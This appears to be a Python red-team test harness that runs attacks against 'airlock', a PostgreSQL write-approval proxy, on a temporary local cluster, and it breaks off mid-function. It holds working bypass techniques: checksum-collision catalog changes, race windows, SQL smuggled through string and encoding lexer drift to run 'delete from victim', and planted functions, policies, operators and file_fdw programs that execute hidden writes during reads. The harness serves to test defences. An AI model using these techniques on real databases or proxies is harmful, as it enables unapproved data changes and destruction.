#!/usr/bin/env python3
"""Red-team round 2 against airlock.

Starts its own PostgreSQL 15 cluster and airlock (shipped default policy) on free
ports, plants objects DIRECTLY as a superuser, runs each attack's exact client
message sequence first DIRECT to PostgreSQL (positive control: it must change the
database, else the attack is BROKEN), then resets and sends the same sequence
THROUGH airlock.  LEAK = database changed through airlock with no approval.

Usage: python3 attacks2.py --airlock-bin PATH [--only SUBSTR] [--keep]
"""
import argparse
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pgwire  # noqa: E402
from pgwire import P, B, D, E, S, H, Q, msg, cstr, summarize  # noqa: E402

PGBIN = "/usr/lib/postgresql/15/bin"
HERE = os.path.dirname(os.path.abspath(__file__))
HOST = "127.0.0.1"
POLL_WAIT = 1.6      # catalog_poll is 1 s by default
HOLD_WAIT = 1.5      # how long we wait for a reply before calling it a hold

CFG = {}


def free_port():
    s = socket.socket()
    s.bind((HOST, 0))
    p = s.getsockname()[1]
    s.close()
    return p


# ----------------------------------------------------------------------------
# cluster + airlock
# ----------------------------------------------------------------------------

def sh(cmd, **kw):
    return subprocess.run(cmd, check=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, **kw)


def as_pg(cmd):
    if os.geteuid() == 0:
        return ["runuser", "-u", "postgres", "--"] + cmd
    return cmd


def start_cluster():
    d = tempfile.mkdtemp(prefix="rt2-", dir="/tmp")
    if os.geteuid() == 0:
        shutil.chown(d, "postgres")
    data = os.path.join(d, "data")
    sh(as_pg([PGBIN + "/initdb", "-D", data, "-A", "trust", "-U", "postgres", "--no-sync"]))
    port = free_port()
    opts = ("-p %d -k %s -c listen_addresses=%s -c max_prepared_transactions=5 -c autovacuum=off "
            "-c fsync=off -c max_connections=200" % (port, d, HOST))
    sh(as_pg([PGBIN + "/pg_ctl", "-D", data, "-o", opts, "-l", os.path.join(d, "log"), "-w", "start"]))
    CFG.update(pgdir=d, pgdata=data, pgport=port)


def stop_cluster():
    if CFG.get("pgdata"):
        subprocess.run(as_pg([PGBIN + "/pg_ctl", "-D", CFG["pgdata"], "-m", "immediate", "stop"]),
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        shutil.rmtree(CFG["pgdir"], ignore_errors=True)


def start_airlock(binpath, extra=()):
    port, admin = free_port(), free_port()
    store = os.path.join(tempfile.gettempdir(), "attacks2-store-%d.db" % os.getpid())
    for suffix in ("", "-wal", "-shm"):
        try:
            os.unlink(store + suffix)
        except FileNotFoundError:
            pass
    logf = open(os.path.join(tempfile.gettempdir(), "attacks2-airlock-%d.log" % os.getpid()), "w")
    cmd = [binpath, "serve", "--listen", "%s:%d" % (HOST, port), "--upstream", "%s:%d" % (HOST, CFG["pgport"]),
           "--admin-listen", "%s:%d" % (HOST, admin), "--store", "sqlite://" + store] + list(extra)
    proc = subprocess.Popen(cmd, stdout=logf, stderr=subprocess.STDOUT)
    for _ in range(100):
        try:
            socket.create_connection((HOST, port), timeout=0.2).close()
            break
        except OSError:
            time.sleep(0.1)
    CFG.update(alport=port, alproc=proc, alstore=store)
    return proc


def stop_airlock():
    p = CFG.get("alproc")
    if p:
        p.terminate()
        try:
            p.wait(5)
        except subprocess.TimeoutExpired:
            p.kill()
    for suffix in ("", "-wal", "-shm"):
        try:
            os.unlink(CFG.get("alstore", "") + suffix)
        except (FileNotFoundError, TypeError):
            pass


# ----------------------------------------------------------------------------
# direct superuser helpers
# ----------------------------------------------------------------------------

def su_conn(db="postgres"):
    return pgwire.Conn(HOST, CFG["pgport"], {"user": "postgres", "database": db, "client_encoding": "UTF8"},
                       timeout=30)


def su(sql, db="postgres"):
    c = su_conn(db)
    try:
        return c.exec_ok(sql)
    finally:
        c.close()


def su_try(sql, db="postgres"):
    c = su_conn(db)
    try:
        return c.query(sql, timeout=30)
    finally:
        c.close()


def su_scalar(sql, db="postgres"):
    c = su_conn(db)
    try:
        return c.scalar(sql)
    finally:
        c.close()


def state():
    return su_scalar("select (select count(*) from marker)::text || '|' || "
                     "(select coalesce(string_agg(id||':'||v, ',' order by id), '') from victim)")


def reset_state():
    su("delete from marker; delete from victim; insert into victim select g, 'orig' from generate_series(1,5) g")


def dsn():
    return "dbname=postgres host=%s port=%d user=postgres" % (HOST, CFG["pgport"])


BASE_SQL = r"""
create extension if not exists dblink;
create extension if not exists postgres_fdw;
create extension if not exists file_fdw;
create table marker(tag text, at timestamptz default now());
create table victim(id int primary key, v text);
grant all on marker, victim to public;
create function evil(tag text) returns boolean language plpgsql security definer
  set search_path = public, pg_catalog as $$
begin
  perform dblink_exec('%(dsn)s', format('insert into marker(tag) values (%%L)', tag));
  return true;
end $$;
grant execute on function evil(text) to public;
create role app login;
create role app2 login;
grant select on all tables in schema public to app, app2;
create schema evil;
grant usage on schema evil to public;
create table padtab(a int);
create rule r0 as on insert to padtab do also nothing;
create index padi0 on padtab(a);
"""


def base_setup():
    su(BASE_SQL % {"dsn": dsn()})
    for db in ("lat1", "sqlasc"):
        enc = "LATIN1" if db == "lat1" else "SQL_ASCII"
        su("create database %s template template0 encoding '%s' lc_collate 'C' lc_ctype 'C'" % (db, enc))
        su("create extension dblink;" + (r"""
create function evil(tag text) returns boolean language plpgsql security definer
  set search_path = public, pg_catalog as $$
begin perform dblink_exec('%(dsn)s', format('insert into marker(tag) values (%%L)', tag)); return true; end $$;
""" % {"dsn": dsn()}), db=db)


# ----------------------------------------------------------------------------
# running a client sequence
# ----------------------------------------------------------------------------

class Outcome:
    def __init__(self):
        self.held = False
        self.refused = False
        self.timeout = False
        self.closed = False
        self.log = []
        self.results = []

    def verdict(self):
        if self.held:
            return "held"
        if self.refused:
            return "refused"
        if self.timeout:
            return "timeout"
        if self.closed:
            return "closed"
        return "passed"


def absorb(out, msgs):
    for m in msgs:
        if isinstance(m, str):
            if m == "TIMEOUT":
                out.timeout = True
            elif m == "CLOSED":
                out.closed = True
            continue
        if m.t == b"N" and "held for review" in (m.fields.get("M") or ""):
            out.held = True
        if m.t == b"E":
            txt = (m.fields.get("M") or "")
            if "airlock" in txt.lower() or m.fields.get("C") == "42501":
                out.refused = True
    out.results.append(msgs)
    out.log.append(summarize(msgs))


def read_until(c, n_ready, out, timeout=HOLD_WAIT):
    res = []
    got = 0
    deadline = time.time() + timeout
    if n_ready == 0:
        try:
            while True:
                m = c.recv(max(0.01, deadline - time.time()))
                res.append(m)
                if m.t == b"N" and "held for review" in (m.fields.get("M") or ""):
                    out.held = True
                    break
        except pgwire.Timeout:
            pass
        except pgwire.Closed:
            res.append("CLOSED")
        absorb(out, res)
        return res
    try:
        while got < n_ready:
            m = c.recv(max(0.01, deadline - time.time()))
            res.append(m)
            if m.t == b"N" and "held for review" in (m.fields.get("M") or ""):
                out.held = True
                break
            if m.t == b"Z":
                got += 1
    except pgwire.Timeout:
        res.append("TIMEOUT")
    except pgwire.Closed:
        res.append("CLOSED")
    absorb(out, res)
    return res


def run_steps(att, port):
    """Run the attack's steps against port. Returns Outcome."""
    out = Outcome()
    params = [("user", att.user), ("database", att.db)] + list(att.startup)
    if not any(k == "client_encoding" for k, _ in params) and not att.no_client_encoding:
        params.append(("client_encoding", "UTF8"))
    try:
        c = pgwire.Conn(HOST, port, params, timeout=3)
    except Exception as e:  # noqa: BLE001
        out.refused = True
        out.log.append("connect: %s" % e)
        return out
    ctx = {"conn": c, "port": port, "direct": port == CFG["pgport"]}
    try:
        for st in att.steps:
            kind = st[0]
            if kind == "q":
                data = st[1]
                c.send(msg(b"Q", (data if isinstance(data, bytes) else data.encode()) + b"\x00"))
                read_until(c, 1, out, st[2] if len(st) > 2 else HOLD_WAIT)
            elif kind == "raw":
                c.send(st[1])
                read_until(c, st[2], out, st[3] if len(st) > 3 else HOLD_WAIT)
            elif kind == "su":
                r = su_try(st[1])
                out.log.append("[su] " + summarize(r)[:120])
            elif kind == "sleep":
                time.sleep(st[1])
            elif kind == "fn":
                st[1](ctx, out)
            elif kind == "reconnect":
                c.close()
                c = pgwire.Conn(HOST, port, params, timeout=3)
                ctx["conn"] = c
            if out.held or out.timeout or out.closed:
                break
    finally:
        c.close()
    return out


# ----------------------------------------------------------------------------
# attack definitions
# ----------------------------------------------------------------------------

class Attack:
    def __init__(self, name, cls, steps, setup="", teardown="", user="postgres", db="postgres",
                 startup=(), control=False, window=False, wait=True, no_client_encoding=False,
                 pre_each=None, note=""):
        self.name, self.cls, self.steps = name, cls, steps
        self.setup, self.teardown = setup, teardown
        self.user, self.db, self.startup = user, db, startup
        self.control, self.window, self.wait = control, window, wait
        self.no_client_encoding = no_client_encoding
        self.pre_each = pre_each   # callable run (direct) before each of the two runs
        self.note = note


ATTACKS = []


def A(*a, **k):
    ATTACKS.append(Attack(*a, **k))


def q(s, t=HOLD_WAIT):
    return ("q", s, t)


# ---- helpers for checksum-collision attacks ---------------------------------

def burn_xids_to(target):
    """Consume transaction ids until the next one to be assigned is `target`."""
    c = su_conn()
    try:
        c.send(P("burn", "select txid_current()") + S())
        c.until_ready()
        c.send(B("", "burn") + E() + S())   # makes txid_snapshot_xmax exact (newest xid completed)
        c.until_ready()
        while True:
            nxt = int(c.scalar("select txid_snapshot_xmax(txid_current_snapshot())"))
            if nxt >= target:
                return nxt
            n = target - nxt
            c.send((B("", "burn") + E() + S()) * n)
            c.until_ready(n, timeout=60)
    finally:
        c.close()


def collide(pad_make, evil_change, pad_swap, xmin_sql):
    """Make `evil_change` in one transaction A while keeping every count and
    xmin sum that airlock's change detector reads unchanged:
      A (xid X) updates a row whose xmin is o   (delta X - o)
      B (xid Y = 2X - o, committed before A) creates padding rows
      A drops B's padding rows and creates new ones (delta X - Y)
    so the total delta is 2X - o - Y = 0 in each catalog touched."""
    o = int(su_scalar(xmin_sql))
    b0 = su_conn()
    for _ in range(20):
        b0.scalar("select txid_current()")
    b0.close()
    a = su_conn()
    a.exec_ok("begin")
    x = int(a.scalar("select txid_current()"))
    target = 2 * x - o
    got = burn_xids_to(target)
    if got != target:
        a.exec_ok("rollback")
        a.close()
        return "xid overshoot %d != %d" % (got, target)
    b = su_conn()
    b.exec_ok("begin; %s; commit" % pad_make)
    b.close()
    time.sleep(POLL_WAIT)          # let airlock reload the benign padding
    a.exec_ok(evil_change)
    a.exec_ok(pad_swap)
    a.exec_ok("commit")
    a.close()
    return "o=%d X=%d Y=%d" % (o, x, target)


def fn_collide(pad_make, evil_change, pad_swap, xmin_sql):
    def f(ctx, out):
        r = collide(pad_make, evil_change, pad_swap, xmin_sql)
        out.log.append("[collide] " + r)
        time.sleep(POLL_WAIT + 1.0)
    return ("fn", f)


LOG10_RESTORE = ("create or replace function pg_catalog.log10(numeric) returns numeric language sql immutable "
                 "parallel safe strict begin atomic select pg_catalog.log(10::numeric, $1); end")

# ============================================================================
# 1. catalog change detection defeated by an xmin-sum collision (permanent)
# ============================================================================
A("collide-view-redefinition", "catalog-poll checksum collision",
  [q("select * from collv"),
   fn_collide("create rule pad1 as on update to padtab do also nothing; create index padi1 on padtab(a)",
              "create or replace view collv as select case when public.evil('collide-view') then 1 end as e",
              "drop rule pad1 on padtab; create rule pad2 as on delete to padtab do also nothing; "
              "drop index padi1; create index padi2 on padtab(a)",
              "select xmin::text::int8 from pg_rewrite where ev_class = 'collv'::regclass"),
   q("select * from collv")],
  setup="create view collv as select 1 as e; grant select on collv to public",
  teardown="drop view if exists collv; drop rule if exists pad1 on padtab; drop rule if exists pad2 on padtab; "
           "drop index if exists padi1; drop index if exists padi2")

A("collide-view-newsession", "catalog-poll checksum collision",
  [fn_collide("create rule pad1 as on update to padtab do also nothing; create index padi1 on padtab(a)",
              "create or replace view collv2 as select case when public.evil('collide-view2') then 1 end as e",
              "drop rule pad1 on padtab; create rule pad2 as on delete to padtab do also nothing; "
              "drop index padi1; create index padi2 on padtab(a)",
              "select xmin::text::int8 from pg_rewrite where ev_class = 'collv2'::regclass"),
   ("reconnect",),
   q("select count(*) from collv2")],
  setup="create view collv2 as select 1 as e; grant select on collv2 to public",
  teardown="drop view if exists collv2; drop rule if exists pad1 on padtab; drop rule if exists pad2 on padtab; "
           "drop index if exists padi1; drop index if exists padi2")

A("collide-rls-policy", "catalog-poll checksum collision",
  [q("select * from rlst"),
   fn_collide("create policy pad1 on rlspad using (true)",
              "alter policy p0 on rlst using (public.evil('collide-rls'))",
              "drop policy pad1 on rlspad; create policy pad2 on rlspad using (true)",
              "select xmin::text::int8 from pg_policy where polname = 'p0'"),
   q("select * from rlst")],
  user="app",
  setup="create table rlst(a int); insert into rlst values (1); alter table rlst enable row level security; "
        "create policy p0 on rlst using (true); grant select on rlst to app; "
        "create table rlspad(a int); alter table rlspad enable row level security",
  teardown="drop table if exists rlst; drop table if exists rlspad")

A("collide-builtin-replaced", "catalog-poll checksum collision / built-in replaced in place",
  [q("select log10(100::numeric)"),
   fn_collide("create function public.padf1() returns int language sql as 'select 1'",
              "create or replace function pg_catalog.log10(numeric) returns numeric language plpgsql as "
              "$$ begin perform public.evil('collide-builtin'); return pg_catalog.log(10::numeric, $1); end $$",
              "drop function public.padf1(); create function public.padf2() returns int language sql as 'select 2'",
              "select xmin::text::int8 from pg_proc where oid = 'pg_catalog.log10(numeric)'::regprocedure"),
   q("select log10(100::numeric)")],
  setup="",
  teardown="drop function if exists public.padf1(); drop function if exists public.padf2();" + LOG10_RESTORE)

A("collide-domain-check", "catalog-poll checksum collision",
  [q("select 5::colld"),
   fn_collide("alter domain colldpad add constraint padc1 check (value > 0)",
              "alter domain colld drop constraint c0; alter domain colld add constraint c0 check (public.evil('collide-domain'))",
              "alter domain colldpad drop constraint padc1; alter domain colldpad add constraint padc2 check (value > 0)",
              "select xmin::text::int8 from pg_constraint where conname = 'c0' and contypid = 'colld'::regtype"),
   q("select 5::colld")],
  setup="create domain colld as int constraint c0 check (value > 0); create domain colldpad as int",
  teardown="drop domain if exists colld; drop domain if exists colldpad")


# ============================================================================
# 2. catalog-poll window (objects changed past airlock just before the read)
# ============================================================================
def win_steps(prime, change, hit):
    return [q(prime), ("su", change), ("sleep", 0.05), q(hit)]


A("window-view-replaced", "catalog-poll window",
  win_steps("select * from winv", "create or replace view winv as select case when public.evil('win-view') then 1 end as e",
            "select * from winv"),
  setup="create view winv as select 1 as e", teardown="drop view if exists winv", window=True)

A("window-prepared-protocol", "catalog-poll window",
  [("raw", P("ws1", "select * from winv2") + S(), 1), ("raw", B("", "ws1") + E() + S(), 1),
   ("su", "create or replace view winv2 as select case when public.evil('win-proto') then 1 end as e"),
   ("sleep", 0.05), ("raw", B("", "ws1") + E() + S(), 1)],
  setup="create view winv2 as select 1 as e", teardown="drop view if exists winv2", window=True)

A("window-table-swapped-for-view", "catalog-poll window",
  win_steps("select * from wint",
            "begin; drop table wint; create view wint as select public.evil('win-swap') as e; commit",
            "select * from wint"),
  setup="create table wint(e boolean)", teardown="drop view if exists wint; drop table if exists wint", window=True)

A("window-rls-policy-added", "catalog-poll window",
  win_steps("select * from winr", "create policy pw on winr using (public.evil('win-rls'))", "select * from winr"),
  user="app",
  setup="create table winr(a int); insert into winr values (1); alter table winr enable row level security; "
        "create policy p0 on winr using (true); grant select on winr to app",
  teardown="drop table if exists winr", window=True)

A("window-builtin-replaced", "catalog-poll window",
  win_steps("select 1", "create or replace function pg_catalog.log10(numeric) returns numeric language plpgsql as "
            "$$ begin perform public.evil('win-builtin'); return pg_catalog.log(10::numeric, $1); end $$",
            "select log10(100::numeric)"),
  teardown=LOG10_RESTORE, window=True)

# stale decisions after the poll: should be held (controls for the window)
A("stale-prepared-after-poll", "session model / catalog change",
  [("raw", P("st1", "select * from stv") + S(), 1), ("raw", B("", "st1") + E() + S(), 1),
   ("su", "create or replace view stv as select case when public.evil('stale-proto') then 1 end as e"),
   ("sleep", POLL_WAIT + 0.5), ("raw", B("", "st1") + E() + S(), 1)],
  setup="create view stv as select 1 as e", teardown="drop view if exists stv")

A("stale-sql-prepare-after-poll", "session model / catalog change",
  [q("prepare sp1 as select * from stv2"), q("execute sp1"),
   ("su", "create or replace view stv2 as select case when public.evil('stale-sql') then 1 end as e"),
   ("sleep", POLL_WAIT + 0.5), q("execute sp1")],
  setup="create view stv2 as select 1 as e", teardown="drop view if exists stv2")

A("stale-cursor-with-hold", "session model / catalog change",
  [q("begin"), q("declare cc cursor with hold for select * from stv3"), q("commit"),
   ("su", "create or replace view stv3 as select case when public.evil('stale-cursor') then 1 end as e"),
   ("sleep", POLL_WAIT + 0.5), q("fetch all from cc")],
  setup="create view stv3 as select 1 as e", teardown="drop view if exists stv3",
  note="a WITH HOLD cursor is materialised at COMMIT: expected broken")


# ============================================================================
# 3. lexer state drift: standard_conforming_strings
#    READ_IF_OFF is one harmless literal if scs=off, but DELETE if scs=on.
#    READ_IF_ON  is harmless literals if scs=on, but DELETE if scs=off.
# ============================================================================
READ_IF_OFF = "select 'a\\'; delete from victim; --'"
READ_IF_ON = "select 'a\\' ; select ' ; delete from victim; --'"

A("scs-set-local-commit", "lexer state drift (standard_conforming_strings)",
  [q("begin"), q("set local standard_conforming_strings = off"), q("commit"), q("begin"), q(READ_IF_OFF), q("commit")])
A("scs-set-rollback", "lexer state drift (standard_conforming_strings)",
  [q("begin"), q("set standard_conforming_strings = off"), q("rollback"), q("begin"), q(READ_IF_OFF), q("commit")])
A("scs-set-in-failed-multistatement", "lexer state drift (standard_conforming_strings)",
  [q("set standard_conforming_strings = off; select 1/0"), q("begin"), q(READ_IF_OFF), q("commit")])
A("scs-savepoint-rollback", "lexer state drift (standard_conforming_strings)",
  [q("begin"), q("savepoint s"), q("set standard_conforming_strings = off"), q("rollback to savepoint s"),
   q(READ_IF_OFF), q("commit")])
A("scs-failed-block", "lexer state drift (standard_conforming_strings)",
  [q("begin"), q("set standard_conforming_strings = off"), q("select 1/0"), q("commit"), q("begin"),
   q(READ_IF_OFF), q("commit")])
A("scs-discard-all", "lexer state drift (standard_conforming_strings)",
  [q("set standard_conforming_strings = off"), q("discard all"), q("begin"), q(READ_IF_OFF), q("commit")])
A("scs-reset-all", "lexer state drift (standard_conforming_strings)",
  [q("set standard_conforming_strings = off"), q("reset all"), q("begin"), q(READ_IF_OFF), q("commit")])
A("scs-pipelined-simple", "lexer state drift (standard_conforming_strings)",
  [q("begin"), ("raw", Q("set standard_conforming_strings = off") + Q(READ_IF_ON), 2), q("commit")])
A("scs-pipelined-extended", "lexer state drift (standard_conforming_strings)",
  [q("begin"),
   ("raw", P("", "set standard_conforming_strings = off") + B() + E() +
    P("", "with q as (select 'a\\') delete from victim returning 1 --') select 1") + B() + E() + S(), 1),
   q("commit")],
  note="the CTE text is a read if scs=off, a DELETE if scs=on; run with scs=on pipelined to off -> read")
A("scs-pipelined-extended-on", "lexer state drift (standard_conforming_strings)",
  [q("set standard_conforming_strings = off"), q("begin"),
   ("raw", P("", "set standard_conforming_strings = on") + B() + E() +
    P("", "with q as (select 'a\\') delete from victim returning 1 --') select 1") + B() + E() + S(), 1),
   q("commit")])
A("scs-startup-param", "lexer state drift (standard_conforming_strings)",
  [q("begin"), q(READ_IF_ON), q("commit")], startup=[("standard_conforming_strings", "off")])
A("scs-startup-options", "lexer state drift (standard_conforming_strings)",
  [q("begin"), q(READ_IF_ON), q("commit")], startup=[("options", "-c standard_conforming_strings=off")])
A("scs-role-default", "lexer state drift (standard_conforming_strings)",
  [q("begin"), q(READ_IF_ON), q("commit")], user="app2",
  setup="alter role app2 set standard_conforming_strings = off; grant all on victim to app2",
  teardown="alter role app2 reset standard_conforming_strings")
A("scs-function-set-clause", "lexer state drift (standard_conforming_strings)",
  [q("begin"), q("select scs_off_noop()"), q(READ_IF_ON), q("commit")],
  setup="create function scs_off_noop() returns int language sql as 'select 1'",
  teardown="drop function if exists scs_off_noop()",
  note="plain user function: expected held")

# ============================================================================
# 4. lexer state drift: client_encoding (airlock believes SJIS, server UTF8)
#    U+0101 is C4 81 in UTF-8; in SJIS C4 is one char and 81 5C is one char.
# ============================================================================
SJIS_TRICK = "select E'\u0101\\' --'; delete from victim; --".encode("utf-8")
A("enc-sjis-rollback", "lexer state drift (client_encoding)",
  [q("begin"), q("set client_encoding = 'SJIS'"), q("rollback"), q("begin"), q(SJIS_TRICK), q("commit")])
A("enc-sjis-set-local-commit", "lexer state drift (client_encoding)",
  [q("begin"), q("set local client_encoding = 'SJIS'"), q("commit"), q("begin"), q(SJIS_TRICK), q("commit")])
A("enc-sjis-failed-multistatement", "lexer state drift (client_encoding)",
  [q("set client_encoding = 'SJIS'; select 1/0"), q("begin"), q(SJIS_TRICK), q("commit")])
A("enc-sjis-savepoint", "lexer state drift (client_encoding)",
  [q("begin"), q("savepoint s"), q("set client_encoding = 'SJIS'"), q("rollback to s"), q(SJIS_TRICK), q("commit")])
A("enc-sjis-reset-all", "lexer state drift (client_encoding)",
  [q("set client_encoding = 'SJIS'"), q("reset all"), q("begin"), q(SJIS_TRICK), q("commit")])
A("enc-sjis-discard-all", "lexer state drift (client_encoding)",
  [q("set client_encoding = 'SJIS'"), q("discard all"), q("begin"), q(SJIS_TRICK), q("commit")])
A("enc-sjis-reset", "lexer state drift (client_encoding)",
  [q("set client_encoding = 'SJIS'"), q("reset client_encoding"), q("begin"), q(SJIS_TRICK), q("commit")])
A("enc-sjis-set-names-default", "lexer state drift (client_encoding)",
  [q("set names 'SJIS'"), q("set names default"), q("begin"), q(SJIS_TRICK), q("commit")])


# ---- encoding decoder fuzz ----------------------------------------------------
def make_fuzz(encname):
    """For every lead byte L: P1 = E'L\\' --'; delete ... (a DELETE if the server
    does NOT take L+0x5C as one character), P2 = E'L\\'; delete ...; --' (a DELETE
    if the server DOES).  Leak if airlock passes a probe that deletes."""
    p1 = lambda L: b"select E'" + bytes([L]) + b"\\' --'; delete from victim; --"     # noqa: E731
    p2 = lambda L: b"select E'" + bytes([L]) + b"\\'; delete from victim; --'"     # noqa: E731

    def f(ctx, out):
        port = ctx["port"]
        hits = []
        for L in range(0x80, 0x100):
            for name, pf in (("p1", p1), ("p2", p2)):
                reset_state()
                before = state()
                c = pgwire.Conn(HOST, port, {"user": "postgres", "database": "postgres",
                                             "client_encoding": encname}, timeout=3)
                o = Outcome()
                c.send(Q("begin"))
                read_until(c, 1, o)
                c.send(msg(b"Q", pf(L) + b"\x00"))
                read_until(c, 1, o, 0.6)
                if not (o.held or o.timeout):
                    c.send(Q("commit"))
                    read_until(c, 1, o)
                c.close()
                if state() != before:
                    hits.append("%s:%02X" % (name, L))
        out.log.append("[fuzz %s] changed by %d probes: %s" % (encname, len(hits), " ".join(hits[:12])))
        ctx["fuzzhits"] = hits
    return f


for _enc in ("SJIS", "BIG5", "GBK", "UHC", "GB18030", "JOHAB"):
    A("enc-fuzz-%s" % _enc.lower(), "client encoding decoder mismatch", [("fn", make_fuzz(_enc))],
      note="positive control: some lead byte changes the DB directly")

# ============================================================================
# 5. identifier truncation in single-byte / SQL_ASCII databases
# ============================================================================
LAT1_NAME = "w" + "\u00e9" * 70
A("ident-truncation-latin1-db", "identifier resolution (NAMEDATALEN in server encoding)",
  [q("select * from " + LAT1_NAME)], db="lat1",
  note="planted via UTF8 client: server truncates to 63 LATIN1 bytes (63 chars)")
SQLA_NAME = "ww" + "\u00e9" * 70
A("ident-truncation-sqlascii-db", "identifier resolution (NAMEDATALEN in server encoding)",
  [q("select * from " + SQLA_NAME)], db="sqlasc")
A("ident-truncation-latin1-clientenc", "identifier resolution (NAMEDATALEN in server encoding)",
  [q(("select * from " + LAT1_NAME).encode("latin-1"))], db="lat1", startup=[("client_encoding", "LATIN1")])

# ============================================================================
# 6. search_path / startup / role defaults
# ============================================================================
A("path-role-default-view", "search_path from role defaults",
  [q("select * from t2p")], user="app2",
  setup="create table public.t2p(e boolean); grant select on public.t2p to public; "
        "create view evil.t2p as select public.evil('rolepath') as e; grant select on evil.t2p to public; "
        "alter role app2 set search_path = evil, public",
  teardown="alter role app2 reset search_path; drop view if exists evil.t2p; drop table if exists public.t2p")
A("path-startup-param", "search_path from startup",
  [q("select * from t2q")], startup=[("search_path", "evil, public")],
  setup="create table public.t2q(e boolean); create view evil.t2q as select public.evil('startpath') as e",
  teardown="drop view if exists evil.t2q; drop table if exists public.t2q")
A("path-dollar-user-schema", "search_path $user",
  [q("set search_path = pg_catalog, \"$user\""), q("select * from t2r")],
  setup="create schema if not exists postgres; create table public.t2r(e boolean); "
        "create view postgres.t2r as select public.evil('dollaruser') as e",
  teardown="drop schema if exists postgres cascade; drop table if exists public.t2r")
A("path-pg_temp-explicit", "pg_temp objects",
  [q("set search_path = pg_catalog, pg_temp"), q("select * from pg_temp.nothere")],
  note="no temp object can exist: expected broken")

# ============================================================================
# 7. objects planted that run code in plain reads
# ============================================================================
A("json-cast-to_json", "hidden cast (to_json uses a user cast to json)",
  [q("select to_json(m) from moods")],
  setup="create type mood as enum ('a','b'); create function mood_json(mood) returns json language plpgsql as "
        "$$ begin perform public.evil('jsoncast'); return '1'::json; end $$; "
        "create cast (mood as json) with function mood_json(mood); create table moods(m mood); "
        "insert into moods values ('a'); grant select on moods to public",
  teardown="drop table if exists moods; drop type if exists mood cascade; drop function if exists mood_json(mood)")
A("domain-in-param-oid", "domain check via Bind parameter type OID",
  [("fn", lambda ctx, out: ctx.__setitem__("doid", int(su_scalar("select 'pdom'::regtype::oid")))),
   ("fn", lambda ctx, out: (ctx["conn"].send(P("", "select $1", types=(ctx["doid"],)) + B("", "", ["1"]) + E() + S()),
                            read_until(ctx["conn"], 1, out)))],
  setup="create domain pdom as int check (public.evil('paramdomain'))",
  teardown="drop domain if exists pdom")
A("domain-in-composite-param", "domain check via Bind parameter type OID",
  [("fn", lambda ctx, out: ctx.__setitem__("doid", int(su_scalar("select 'pcomp'::regtype::oid")))),
   ("fn", lambda ctx, out: (ctx["conn"].send(P("", "select $1 is null", types=(ctx["doid"],)) + B("", "", ["(1)"]) + E() + S()),
                            read_until(ctx["conn"], 1, out)))],
  setup="create domain pdom2 as int check (public.evil('paramcomp')); create type pcomp as (x pdom2)",
  teardown="drop type if exists pcomp; drop domain if exists pdom2")
A("rls-policy-function", "RLS policy runs user code",
  [q("select * from rlsx")], user="app",
  setup="create table rlsx(a int); insert into rlsx values (1); alter table rlsx enable row level security; "
        "create policy px on rlsx using (public.evil('rls')); grant select on rlsx to app",
  teardown="drop table if exists rlsx")
A("rls-policy-via-view", "RLS policy runs user code",
  [q("select * from rlsy")], user="app",
  setup="create view rlsyv as select public.evil('rlsview') as e; grant select on rlsyv to app; "
        "create table rlsy(a int); insert into rlsy values (1); alter table rlsy enable row level security; "
        "create policy py on rlsy using (exists (select 1 from rlsyv)); grant select on rlsy to app",
  teardown="drop table if exists rlsy; drop view if exists rlsyv")
A("rls-update-policy-for-share", "RLS policy runs user code",
  [q("begin"), q("select * from rlsz for share"), q("commit")], user="app",
  setup="create table rlsz(a int); insert into rlsz values (1); alter table rlsz enable row level security; "
        "create policy psel on rlsz for select using (true); "
        "create policy pupd on rlsz for update using (public.evil('rlsupd')); grant select, update on rlsz to app",
  teardown="drop table if exists rlsz")
A("fdw-loopback-view", "foreign table reaches user code remotely",
  [q("select * from ftx")],
  setup="create server loop foreign data wrapper postgres_fdw options (host '127.0.0.1', port '%PORT%', dbname 'postgres'); "
        "create user mapping for public server loop options (user 'postgres'); "
        "create view fdwv as select public.evil('fdw') as e; "
        "create foreign table ftx(e boolean) server loop options (table_name 'fdwv')",
  teardown="drop foreign table if exists ftx; drop view if exists fdwv; drop server if exists loop cascade")
A("fdw-partition-child", "foreign table reaches user code remotely",
  [q("select count(*) from parted")],
  setup="create server loop2 foreign data wrapper postgres_fdw options (host '127.0.0.1', port '%PORT%', dbname 'postgres'); "
        "create user mapping for public server loop2 options (user 'postgres'); "
        "create view fdwv2 as select 5 as a, public.evil('fdwpart') as e; "
        "create table parted(a int, e boolean) partition by range (a); "
        "create table parted1 partition of parted for values from (0) to (3); "
        "create foreign table parted2 partition of parted for values from (3) to (10) server loop2 options (table_name 'fdwv2')",
  teardown="drop table if exists parted; drop view if exists fdwv2; drop server if exists loop2 cascade")
A("file_fdw-program", "foreign table runs a program",
  [q("select * from fprog")],
  setup="create server fs foreign data wrapper file_fdw; "
        "create foreign table fprog(x text) server fs options (program '%PSQL% -X -q -h 127.0.0.1 -p %PORT% -U postgres "
        "-d postgres -c \"insert into marker values (''prog'')\" >/dev/null; echo hi')",
  teardown="drop foreign table if exists fprog; drop server if exists fs cascade")
A("info-schema-inlined-operator", "search_path steers string bodies (inlined SQL functions)",
  [q("select column_name, character_maximum_length from information_schema.columns where table_name = 'victim'")],
  setup="create function public.oideqint(oid, int4) returns boolean language plpgsql as "
        "$$ begin perform public.evil('infoschema'); return $1::int4 = $2; end $$; "
        "create operator public.= (leftarg = oid, rightarg = int4, function = public.oideqint)",
  teardown="drop operator if exists public.= (oid, int4); drop function if exists public.oideqint(oid, int4)")
A("operator-implicit-nullif", "implicit operator (NULLIF/IN/CASE use =)",
  [q("select nullif(1, 'x'::text)")],
  setup="create function public.inteqtext(int4, text) returns boolean language plpgsql as "
        "$$ begin perform public.evil('nullif'); return false; end $$; "
        "create operator public.= (leftarg = int4, rightarg = text, function = public.inteqtext)",
  teardown="drop operator if exists public.= (int4, text); drop function if exists public.inteqtext(int4, text)")
A("operator-join-using", "implicit operator (JOIN USING)",
  [q("select * from (select 1 as k) a join (select 'x'::text as k) b using (k)")],
  setup="create function public.inteqtext2(int4, text) returns boolean language plpgsql as "
        "$$ begin perform public.evil('using'); return false; end $$; "
        "create operator public.= (leftarg = int4, rightarg = text, function = public.inteqtext2)",
  teardown="drop operator if exists public.= (int4, text); drop function if exists public.inteqtext2(int4, text)")
ORIG = {}


def _roles_setup():
